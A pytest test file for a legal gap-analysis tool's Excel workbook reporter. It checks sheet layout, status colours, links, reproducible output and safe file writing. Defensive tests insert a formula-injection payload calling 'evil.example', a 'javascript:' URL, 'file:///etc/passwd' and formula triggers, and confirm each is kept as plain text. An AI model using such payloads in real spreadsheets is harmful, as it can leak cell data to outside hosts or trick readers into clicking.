"""The gap workbook (--xlsx): read it back and check what an NGO or legal adviser would see.

Expectations come from the JSON results of the same run, never from hard-coded counts, so these
tests hold whatever rules the catalogue holds.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import string
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from click.testing import CliRunner

from gap_engine import api
from gap_engine.cells import CELL_LIMIT, SheetTitles, cut_to_limit, is_formula_like
from gap_engine.cli import main
from gap_engine.findings import CheckResults, Evidence
from gap_engine.print_layout import chars_per_line
from gap_engine.reporters import xlsx
from gap_engine.reporters.grouping import STATUS_ORDER
from gap_engine.rules import paper
from tests.conftest import FIXTURES, ROOT, minimal_profile, write_manifest

EXAMPLIA = FIXTURES / "examplia_complete.yaml"
NESCIA = FIXTURES / "nescia_unknown.yaml"
ENGINE = ("--engine", "python")  # the reporter does not depend on the engine; the Python evaluator is always available


def invoke(*args: str | Path) -> Any:
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def run_check(tmp_path: Path, profiles: list[Path], *extra: str | Path) -> tuple[openpyxl.Workbook, dict, Path]:
    """Run ``check --format json --xlsx`` and return the workbook, the JSON results and the workbook path."""
    book = tmp_path / "gaps.xlsx"
    result = invoke("check", *profiles, *ENGINE, "--format", "json", "--xlsx", book, *extra)
    assert result.exit_code == 0, result.output
    return openpyxl.load_workbook(book), json.loads(result.stdout), book


def write_variant(directory: Path, source: Path, code: str, name: str) -> Path:
    """A copy of a fixture profile under another jurisdiction code and name."""
    text = source.read_text(encoding="utf-8")
    text, replaced = re.subn(r"^jurisdiction:.*$", f"jurisdiction: {json.dumps({'code': code, 'name': name})}", text, count=1, flags=re.M)
    assert replaced == 1
    path = directory / f"{code}.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def write_profile(directory: Path, filename: str, data: dict) -> Path:
    path = directory / filename
    path.write_text(json.dumps(data), encoding="utf-8")  # JSON is YAML
    return path


def rule_order(data: dict) -> list[str]:
    """Rule IDs as the workbook should list them: the packs' theme order (the paper's first), then rule ID."""
    order = {t["id"]: i for i, t in enumerate(t for pack in data["packs"] for t in pack["themes"])}
    first = {f["rule_id"]: f for p in data["profiles"] for f in p["findings"]}
    return sorted(first, key=lambda rid: (order[first[rid]["theme"]], rid))


def summary_header_row(ws: Any) -> list[Any]:
    return [c.value for c in ws[3]]


def cf_rules(ws: Any) -> dict[str, tuple[str, list[Any]]]:
    """Conditional-format rules on a sheet: status → (fill colour, ranges)."""
    found: dict[str, tuple[str, list[Any]]] = {}
    for cf_range in ws.conditional_formatting:
        for rule in cf_range.rules:
            assert rule.type == "cellIs" and rule.operator == "equal"
            status = rule.formula[0].strip('"')
            found[status] = (rule.dxf.fill.fgColor.rgb[-6:], [str(r) for r in cf_range.sqref.ranges])
    return found


@pytest.fixture(scope="module")
def two(tmp_path_factory: pytest.TempPathFactory) -> tuple[openpyxl.Workbook, dict, Path]:
    return run_check(tmp_path_factory.mktemp("two"), [NESCIA, EXAMPLIA])


def test_sheets_summary_first_then_one_per_jurisdiction_then_who_items_rules_and_about(two: tuple) -> None:
    wb, data, _ = two
    names = [f"{p['jurisdiction']} {p['jurisdiction_name']}" for p in data["profiles"]]
    assert wb.sheetnames == ["Summary", *names, "Who", "Items", "Rules", "About"]


def test_summary_cells_show_each_jurisdictions_status_per_rule_as_in_json(two: tuple) -> None:
    wb, data, _ = two
    ws = wb["Summary"]
    ids = rule_order(data)
    header = summary_header_row(ws)
    assert header[:3] == ["Code", "Jurisdiction", "Evaluated on"]
    assert header[3 : 3 + len(ids)] == ids
    assert header[3 + len(ids) :] == STATUS_ORDER
    for row, profile in enumerate(data["profiles"], start=4):
        status = {f["rule_id"]: f["status"] for f in profile["findings"]}
        values = [c.value for c in ws[row]]
        assert values[0] == profile["jurisdiction"] and values[1] == profile["jurisdiction_name"]
        assert values[2].date().isoformat() == profile["as_of"]
        assert values[3 : 3 + len(ids)] == [status[r] for r in ids]
        counts = {s: sum(1 for f in profile["findings"] if f["status"] == s) for s in STATUS_ORDER}
        assert values[3 + len(ids) :] == [counts[s] for s in STATUS_ORDER]


def test_summary_groups_rules_under_theme_cells_with_titles_above_ids(two: tuple) -> None:
    wb, data, _ = two
    ws = wb["Summary"]
    ids = rule_order(data)
    by_id = {f["rule_id"]: f for p in data["profiles"] for f in p["findings"]}
    titles = {t["id"]: t["title"] for t in paper()["themes"]}
    merged = {str(r): r for r in ws.merged_cells.ranges}
    for column, rule_id in enumerate(ids, start=4):
        assert ws.cell(row=2, column=column).value == by_id[rule_id]["title"]
        # The theme's header cell is the top-left of a merged range (or a single cell) spanning this column.
        theme_title = titles[by_id[rule_id]["theme"]]
        spans = [r for r in merged.values() if r.min_row == 1 and r.min_col <= column <= r.max_col]
        start = spans[0].min_col if spans else column
        assert ws.cell(row=1, column=start).value == theme_title


def test_summary_frozen_filtered_and_wide_enough(two: tuple) -> None:
    wb, data, _ = two
    ws = wb["Summary"]
    assert ws.freeze_panes == "D4"
    last_row = 3 + len(data["profiles"])
    assert re.fullmatch(rf"A3:[A-Z]+{last_row}", ws.auto_filter.ref)
    assert ws.page_setup.orientation == "landscape"
    # Printed from the rule-ID row (the full titles above it print on the Rules sheet), which heads every page,
    # with the jurisdiction columns on every page.
    assert ws.print_title_rows.replace("$", "") == "3:3" and ws.print_title_cols.replace("$", "") == "A:C"
    assert str(ws.print_area).replace("$", "").startswith("'Summary'!A3:")
    for column in range(4, 4 + len(rule_order(data))):
        letter = openpyxl.utils.get_column_letter(column)
        assert chars_per_line(ws.column_dimensions[letter].width) >= len("not_applicable")  # one line, never wrapped


def test_every_status_has_its_own_conditional_colour_and_the_legend_matches(two: tuple) -> None:
    wb, data, _ = two
    ws = wb["Summary"]
    rules = cf_rules(ws)
    assert set(rules) == set(STATUS_ORDER)
    assert len({fill for fill, _ in rules.values()}) == len(STATUS_ORDER)
    ids = rule_order(data)
    matrix = f"D4:{openpyxl.utils.get_column_letter(3 + len(ids))}{3 + len(data['profiles'])}"
    assert all(ranges == [matrix] for _, ranges in rules.values())
    # Colours a reader recognises: gap reddest, covered greenest.
    channels = {status: [int(fill[i : i + 2], 16) for i in (0, 2, 4)] for status, (fill, _) in rules.items()}
    assert max(range(3), key=lambda i: channels["gap"][i]) == 0 and channels["gap"][0] > channels["gap"][1]
    assert max(range(3), key=lambda i: channels["covered"][i]) == 1 and channels["covered"][1] > channels["covered"][0]
    legend = next(row for row in range(1, ws.max_row + 1) if ws.cell(row=row, column=2).value == "Legend")
    for offset, status in enumerate(STATUS_ORDER, start=1):
        cell = ws.cell(row=legend + offset, column=2)
        assert cell.value == status
        assert cell.fill.fgColor.rgb[-6:] == rules[status][0]
        assert ws.cell(row=legend + offset, column=4).value  # its meaning, in words, under the rule columns


def test_summary_counts_per_theme_match_the_json(two: tuple) -> None:
    wb, data, _ = two
    ws = wb["Summary"]
    start = next(row for row in range(1, ws.max_row + 1) if str(ws.cell(row=row, column=2).value).startswith("Findings by theme"))
    every = [f for p in data["profiles"] for f in p["findings"]]
    row = start
    for theme in paper()["themes"]:
        members = [f for f in every if f["theme"] == theme["id"]]
        if not members:
            continue
        row += 1
        assert ws.cell(row=row, column=2).value == theme["title"]
        assert [ws.cell(row=row, column=4 + i).value for i in range(len(STATUS_ORDER))] == [
            sum(1 for f in members if f["status"] == s) for s in STATUS_ORDER
        ]


def test_jurisdiction_sheet_lists_every_finding_with_its_details(two: tuple) -> None:
    wb, data, _ = two
    order = rule_order(data)
    for profile in data["profiles"]:
        ws = wb[f"{profile['jurisdiction']} {profile['jurisdiction_name']}"]
        headers = [c.value for c in ws[1]]
        assert headers == [name for name, _ in xlsx.FINDING_COLUMNS]
        column = {name: i for i, name in enumerate(headers)}
        rows = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
        by_id = {f["rule_id"]: f for f in profile["findings"]}
        assert [r[column["Rule ID"]] for r in rows] == order
        for row in rows:
            finding = by_id[row[column["Rule ID"]]]
            assert row[column["Status"]] == finding["status"]
            assert row[column["Title"]] == finding["title"]
            assert (row[column["Missing elements"]] or "") == "\n".join(finding["missing"] + finding["notes"])
            assert row[column["Recommendation"]] == finding["recommendation"]
            assert (row[column["Convention articles"]] or "") == ", ".join(finding["articles"])
            for qid in finding["questions"]:
                assert qid in row[column["Paper questions and Committee points"]]
            for item in finding["evidence"]:
                assert item["ref"] in row[column["Evidence"]]


def test_jurisdiction_sheet_is_frozen_filtered_wrapped_and_prints_landscape(two: tuple) -> None:
    wb, data, _ = two
    for profile in data["profiles"]:
        ws = wb[f"{profile['jurisdiction']} {profile['jurisdiction_name']}"]
        assert ws.freeze_panes == "B2"
        assert ws.auto_filter.ref == f"A1:O{len(profile['findings']) + 1}"  # every column, printed or not
        assert ws.cell(row=2, column=2).alignment.wrap_text
        assert ws.page_setup.orientation == "landscape"
        assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.print_title_rows.replace("$", "") == "1:1"
        assert set(cf_rules(ws)) == set(STATUS_ORDER)


def test_source_links_are_hyperlinks_to_http_sources(two: tuple) -> None:
    wb, data, _ = two
    linked = 0
    for profile in data["profiles"]:
        ws = wb[f"{profile['jurisdiction']} {profile['jurisdiction_name']}"]
        by_id = {f["rule_id"]: f for f in profile["findings"]}
        for row in ws.iter_rows(min_row=2):
            urls = [e["url"] for e in by_id[row[0].value]["evidence"] if e["url"]]
            cell = row[xlsx.LINK_COLUMN - 1]
            if urls:
                assert cell.hyperlink is not None and cell.hyperlink.target == urls[0] == cell.value
                linked += 1
            else:
                assert cell.hyperlink is None
    assert linked == sum(1 for p in data["profiles"] for f in p["findings"] if any(e["url"] for e in f["evidence"]))


def test_only_http_addresses_become_hyperlinks() -> None:
    results = api.check([EXAMPLIA], engine="python")
    profile = results.profiles[0]
    bad = Evidence(kind="offence", ref="cc-x", answer="covered", citation="Code", url="javascript:alert(1)")
    findings = [f.model_copy(update={"evidence": [bad]}) for f in profile.findings]
    altered = results.model_copy(update={"profiles": [profile.model_copy(update={"findings": findings})]})
    ws = openpyxl.load_workbook(io.BytesIO(xlsx.workbook_bytes(altered)))["XA Examplia"]
    for row in ws.iter_rows(min_row=2):
        evidence_column = [name for name, _ in xlsx.FINDING_COLUMNS].index("Evidence")
        link, evidence = row[xlsx.LINK_COLUMN - 1], row[evidence_column]
        assert link.hyperlink is None and not link.value
        assert "javascript:alert(1)" in evidence.value  # still visible as text in the evidence
    assert not xlsx.is_web_url("file:///etc/passwd") and xlsx.is_web_url("https://example.org/a")


def test_summary_names_link_to_their_jurisdiction_sheet(two: tuple) -> None:
    wb, data, _ = two
    ws = wb["Summary"]
    for row, profile in enumerate(data["profiles"], start=4):
        assert ws.cell(row=row, column=2).hyperlink.location == f"'{profile['jurisdiction']} {profile['jurisdiction_name']}'!A1"


def test_rules_sheet_is_the_catalogue_as_run_with_rule_packs_marked(tmp_path: Path) -> None:
    pack = write_manifest(tmp_path / "ngo_pack", pack_id="ngo-pack", theme="ngo_theme", question="NGO-Q1")
    (pack / "extra.yaml").write_text(
        """theme: ngo_theme
rules:
  - id: NGO-001
    title: Possessing deepfake CSAM of real children is criminalised
    questions: [NGO-Q1]
    articles: ["20(1)(e)"]
    severity: good_practice
    condition:
      offence: {conduct: possessing, material: manipulated_real_child}
    finding: A pack rule.
    recommendation: Criminalise it.
    cases:
      - name: unknown_when_no_provision_given
        profile: {}
        expect: unknown
""",
        encoding="utf-8",
    )
    wb, data, _ = run_check(tmp_path, [EXAMPLIA], "--rules", pack)
    ws = wb["Rules"]
    headers = [c.value for c in ws[1]]
    rows = {r[0]: dict(zip(headers, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True)}
    assert list(rows) == rule_order(data)
    assert rows["NGO-001"]["Pack and version"] == "ngo-pack 1.0.0"
    assert rows["NGO-001"]["Theme"] == "Test theme ngo_theme"
    assert "NGO-Q1: A test question." in rows["NGO-001"]["Paper questions and Committee points"]
    assert {r["Pack and version"] for rid, r in rows.items() if rid != "NGO-001"} == {"builtin 2.0.0"}
    about = "\n".join(str(c.value) for row in wb["About"].iter_rows() for c in row if c.value is not None)
    assert "Rule pack ngo-pack 1.0.0" in about and "Test source of ngo-pack" in about and "Rule pack builtin 2.0.0" in about
    assert ws.freeze_panes == "B2" and ws.auto_filter.ref


def test_about_sheet_names_versions_sources_and_the_paper(two: tuple) -> None:
    wb, data, _ = two
    ws = wb["About"]
    cells = {c.value for row in ws.iter_rows() for c in row if c.value is not None}
    text = "\n".join(str(c) for c in cells)
    assert f"gap-engine {data['tool_version']}" in cells
    assert data["rules_version"] in cells and data["rules_hash"] in cells
    assert "© Council of Europe" in text and "2024" in paper()["paper"] and any(paper()["paper"] in str(c) for c in cells)
    latest = max(p["as_of"] for p in data["profiles"])
    assert f"{latest} 00:00:00 UTC" in cells  # generation time: the latest as-of date, said so beside it
    for profile in data["profiles"]:
        assert profile["source"] in cells


def test_profile_text_never_becomes_a_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A jurisdiction name and a file name that look like formulas stay text, read back exactly."""
    hostile = '=HYPERLINK("https://evil.example/"&A1,"click")'
    monkeypatch.chdir(tmp_path)
    profile = write_profile(tmp_path, "@SUM(1+1).yaml", minimal_profile(jurisdiction={"code": "XT", "name": hostile}))
    book = tmp_path / "out.xlsx"
    result = invoke("check", profile.name, *ENGINE, "--xlsx", book)
    assert result.exit_code == 0, result.output
    wb = openpyxl.load_workbook(book)
    name = wb["Summary"]["B4"]
    assert name.value == hostile and name.data_type == "s" and name.quotePrefix
    about = [c for row in wb["About"].iter_rows() for c in row if c.value == "@SUM(1+1).yaml"]
    assert about and about[0].data_type == "s"
    with zipfile.ZipFile(book) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets)


MISSING_CELL = openpyxl.utils.get_column_letter([name for name, _ in xlsx.FINDING_COLUMNS].index("Missing elements") + 1) + "2"
"""The first finding's missing elements on a jurisdiction sheet."""


@pytest.mark.parametrize("value", ["=1+2", "+41 22", "-2+3", "@SUM(A1)", "\t=cmd", "\r=cmd", "=" + "x" * 40_000])
def test_each_formula_trigger_is_written_as_text(value: str) -> None:
    results = api.check([NESCIA], engine="python")
    profile = results.profiles[0]
    findings = [f.model_copy(update={"missing": [value]}) for f in profile.findings]
    altered = results.model_copy(update={"profiles": [profile.model_copy(update={"jurisdiction_name": value, "findings": findings})]})
    data = xlsx.workbook_bytes(altered)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for cell in (wb["Summary"]["B4"], wb[wb.sheetnames[1]][MISSING_CELL]):
        assert cell.data_type == "s"
        assert isinstance(cell.value, str) and len(cell.value) <= CELL_LIMIT
        # XML turns a carriage return into a line feed; what matters is that the text is kept as text.
        assert cell.value == cut_to_limit(value).replace("\r", "\n")
        assert cell.quotePrefix == is_formula_like(cut_to_limit(value))


def test_control_characters_are_escaped_and_long_text_cut_with_a_marker() -> None:
    results = api.check([NESCIA], engine="python")
    profile = results.profiles[0]
    long_text = "ü" * 20_000 + "😀" * 10_000  # 40,000 UTF-16 code units
    findings = [f.model_copy(update={"missing": [long_text]}) for f in profile.findings]
    altered = results.model_copy(
        update={"profiles": [profile.model_copy(update={"jurisdiction_name": "Nes\x07cia\x00", "findings": findings})]}
    )
    wb = openpyxl.load_workbook(io.BytesIO(xlsx.workbook_bytes(altered)))
    assert wb["Summary"]["B4"].value == "Nes\\x07cia\\x00"
    cut = wb[wb.sheetnames[1]][MISSING_CELL].value
    assert len(cut.encode("utf-16-le")) // 2 <= CELL_LIMIT
    assert cut.startswith("ü" * 100) and "truncated" in cut[-100:]


def test_sheet_titles_are_valid_and_unique() -> None:
    titles = SheetTitles(reserved=("Summary", "Who", "Items", "Rules", "About"))
    made = [
        titles.take("XC Republic of the Very Long Name North"),
        titles.take("XC Republic of the Very Long Name South"),
        titles.take("XC Republic of the Very Long Name West"),
        titles.take("summary"),
        titles.take("XD a/b:c[d]*e?f\\g"),
        titles.take("'quoted'"),
        titles.take("History"),
    ]
    assert len({t.casefold() for t in made}) == len(made)
    assert all(0 < len(t) <= 31 and not re.search(r"[\[\]:*?/\\]", t) and not t.startswith("'") for t in made)
    assert made[1].endswith("(2)") and made[2].endswith("(3)")
    assert made[3] == "summary (2)"
    assert made[4] == "XD abcdefg"


def test_jurisdictions_sharing_a_prefix_get_distinct_sheets(tmp_path: Path) -> None:
    long = "Republic of the Very Long Name of Examplia"
    profiles = [
        write_variant(tmp_path, EXAMPLIA, "XA", long + " North"),
        write_variant(tmp_path, NESCIA, "XB", "Nescia"),
    ]
    (tmp_path / "again").mkdir()
    # Same code, same file name; an earlier as_of, since the same code and date twice is refused as a duplicate.
    again = write_variant(tmp_path / "again", EXAMPLIA, "XA", long + " South")
    again.write_text(re.sub(r"^as_of:.*$", "as_of: 2024-09-30", again.read_text(encoding="utf-8"), count=1, flags=re.M), encoding="utf-8")
    profiles.append(again)
    wb, data, _ = run_check(tmp_path, profiles)
    sheets = wb.sheetnames[1:-4]
    assert len(sheets) == len(data["profiles"]) == 3
    assert len({s.casefold() for s in sheets}) == 3 and all(len(s) <= 31 for s in sheets)
    about = wb["About"]
    listed = {r[0]: r[4] for r in about.iter_rows(values_only=True) if r[0] in sheets}
    assert sorted(listed.values()) == sorted(p["source"] for p in data["profiles"])  # each sheet traced to its file


def test_same_input_gives_byte_identical_workbooks_across_processes(tmp_path: Path) -> None:
    outputs = []
    for seed in ("1", "2"):
        target = tmp_path / f"run{seed}.xlsx"
        env = {**os.environ, "PYTHONHASHSEED": seed}
        env.pop("SOURCE_DATE_EPOCH", None)
        cmd = [sys.executable, "-m", "gap_engine.cli", "check", str(NESCIA), str(EXAMPLIA), *ENGINE, "--xlsx", str(target)]
        done = subprocess.run(cmd, env=env, cwd=ROOT, capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr
        outputs.append(target.read_bytes())
    assert outputs[0] == outputs[1]
    with zipfile.ZipFile(io.BytesIO(outputs[0])) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2024, 10, 1, 0, 0, 0)}
        assert "2024-10-01T00:00:00Z" in archive.read("docProps/core.xml").decode()


def test_source_date_epoch_sets_the_generation_time(monkeypatch: pytest.MonkeyPatch) -> None:
    results = api.check([EXAMPLIA], engine="python")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1735689600")  # 2025-01-01T00:00:00Z
    data = xlsx.workbook_bytes(results)
    assert data == xlsx.workbook_bytes(results)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.properties.created.isoformat().startswith("2025-01-01T00:00:00")
    assert "2025-01-01 00:00:00 UTC" in [c.value for row in wb["About"].iter_rows() for c in row]
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "yesterday")
    with pytest.raises(Exception, match="SOURCE_DATE_EPOCH"):
        xlsx.workbook_bytes(results)


def _unwritable_directory(tmp_path: Path) -> Path:
    """A directory this process cannot create files in (permission bits do not stop root; sysfs does)."""
    directory = tmp_path / "readonly"
    directory.mkdir()
    directory.chmod(0o555)
    if not os.access(directory, os.W_OK):
        return directory
    directory.chmod(0o755)
    try:
        (Path("/sys") / "gap-engine-probe").write_bytes(b"")
    except OSError:
        return Path("/sys")
    pytest.skip("no unwritable directory available to this user")


def test_unwritable_target_exits_2_and_leaves_no_file(tmp_path: Path) -> None:
    directory = _unwritable_directory(tmp_path)
    target = directory / "gaps.xlsx"
    before = set(os.listdir(directory))
    result = invoke("check", EXAMPLIA, *ENGINE, "--xlsx", target)
    assert result.exit_code == 2
    assert "gaps.xlsx" in result.stderr and "Error:" in result.stderr
    assert set(os.listdir(directory)) == before


def test_failure_while_writing_keeps_the_previous_file_and_no_temporary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "gaps.xlsx"
    target.write_bytes(b"previous workbook")

    def full_disk(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("gap_engine.output.os.replace", full_disk)
    result = invoke("check", EXAMPLIA, *ENGINE, "--xlsx", target)
    assert result.exit_code == 2 and "No space left on device" in result.stderr
    assert target.read_bytes() == b"previous workbook"
    assert sorted(os.listdir(tmp_path)) == ["gaps.xlsx"]


def test_an_input_file_is_never_overwritten(tmp_path: Path) -> None:
    profile = tmp_path / "examplia.yaml"
    shutil.copy(EXAMPLIA, profile)
    before = profile.read_bytes()
    result = invoke("check", profile, *ENGINE, "--xlsx", profile)
    assert result.exit_code == 2 and "refusing to overwrite" in result.stderr
    assert profile.read_bytes() == before


def forty_six_profiles(directory: Path) -> list[Path]:
    """46 profiles (the Council of Europe's member states count), alternating the two fixtures."""
    codes = [a + b for a in "ABCDEFGH" for b in string.ascii_uppercase][:46]
    sources = (EXAMPLIA, NESCIA)
    return [write_variant(directory, sources[i % 2], code, f"Republic of Examplia, Province {i:02d}") for i, code in enumerate(codes)]


@pytest.fixture(scope="module")
def scale(tmp_path_factory: pytest.TempPathFactory) -> tuple[openpyxl.Workbook, dict, Path]:
    directory = tmp_path_factory.mktemp("scale")
    return run_check(directory, forty_six_profiles(directory))


@pytest.mark.slow
def test_forty_six_jurisdictions_give_a_workbook_that_reads_back_cleanly(scale: tuple) -> None:
    _, data, book = scale
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # any complaint while reading counts as not opening cleanly
        wb = openpyxl.load_workbook(book)
    with zipfile.ZipFile(book) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(archive.read(name))  # every part is well-formed XML
    assert len(data["profiles"]) == 46
    assert len(wb.sheetnames) == 46 + 5 and len(set(wb.sheetnames)) == 51
    ws = wb["Summary"]
    ids = rule_order(data)
    sheet_by_code = {}
    for row, profile in enumerate(data["profiles"], start=4):
        status = {f["rule_id"]: f["status"] for f in profile["findings"]}
        assert [c.value for c in ws[row]][3 : 3 + len(ids)] == [status[r] for r in ids]
        location = ws.cell(row=row, column=2).hyperlink.location
        sheet_by_code[profile["jurisdiction"]] = location.split("'")[1]
    for profile in data["profiles"]:
        sheet = wb[sheet_by_code[profile["jurisdiction"]]]
        assert [c.value for c in sheet["D"][1:]] == [
            f["status"] for f in sorted(profile["findings"], key=lambda f: ids.index(f["rule_id"]))
        ]


@pytest.mark.slow
@pytest.mark.libreoffice
def test_libreoffice_opens_the_46_jurisdiction_workbook(request: pytest.FixtureRequest, tmp_path: Path) -> None:
    """LibreOffice loads every sheet of a large workbook and saves it again. Re-saved as OpenDocument, not
    printed: printed legibly, 46 jurisdictions are over a thousand pages (minutes of LibreOffice); printing
    is tested on the fixtures' workbook in tests/test_xlsx_print.py."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if not office:
        pytest.skip("LibreOffice is not installed")
    _, _, book = request.getfixturevalue("scale")  # only built when LibreOffice can use it
    done = subprocess.run(
        [
            office,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--convert-to",
            "ods",
            "--outdir",
            str(tmp_path),
            str(book),
        ],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stderr
    converted = tmp_path / "gaps.ods"
    assert converted.is_file() and converted.read_bytes().startswith(b"PK")
    with zipfile.ZipFile(converted) as ods:
        content = ods.read("content.xml").decode("utf-8")
    assert content.count("<table:table ") == len(openpyxl.load_workbook(book, read_only=True).sheetnames)


def test_workbook_module_is_not_imported_by_help() -> None:
    done = subprocess.run(
        [sys.executable, "-c", "import sys; from gap_engine.cli import main; print('openpyxl' in sys.modules)"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=60,
    )
    assert done.stdout.strip() == "False"


def test_results_without_profiles_are_not_reported_covered() -> None:
    """A rule missing from a profile's findings is shown as unknown, never covered (guards the Summary fallback)."""
    results = api.check([EXAMPLIA, NESCIA], engine="python")
    first, second = results.profiles
    trimmed = second.model_copy(update={"findings": second.findings[1:]})
    altered = CheckResults.model_validate({**results.model_dump(), "profiles": [first.model_dump(), trimmed.model_dump()]})
    ws = openpyxl.load_workbook(io.BytesIO(xlsx.workbook_bytes(altered)))["Summary"]
    missing_rule = second.findings[0].rule_id
    column = summary_header_row(ws).index(missing_rule) + 1
    assert ws.cell(row=5, column=column).value == "unknown"


def test_apostrophe_and_ampersand_in_a_name_keep_links_and_print_headers_working() -> None:
    results = api.check([EXAMPLIA], engine="python")
    profile = results.profiles[0].model_copy(update={"jurisdiction_name": "Côte d'Ivoire & Co"})
    wb = openpyxl.load_workbook(io.BytesIO(xlsx.workbook_bytes(results.model_copy(update={"profiles": [profile]}))))
    assert wb.sheetnames[1] == "XA Côte d'Ivoire & Co"
    assert wb["Summary"]["B4"].hyperlink.location == "'XA Côte d''Ivoire & Co'!A1"
    # In print headers "&" starts a code (page number, date…); a literal ampersand is doubled.
    assert wb[wb.sheetnames[1]].oddHeader.center.text == "Côte d'Ivoire && Co (XA), law as of 2024-10-01, evaluated on 2024-10-01"


def test_text_that_fits_a_cell_is_never_cut() -> None:
    exact = "a" * CELL_LIMIT
    assert cut_to_limit(exact) == exact
    over = cut_to_limit(exact + "b")
    assert len(over) <= CELL_LIMIT and over.endswith("characters cut; see the source profile for the full text]")
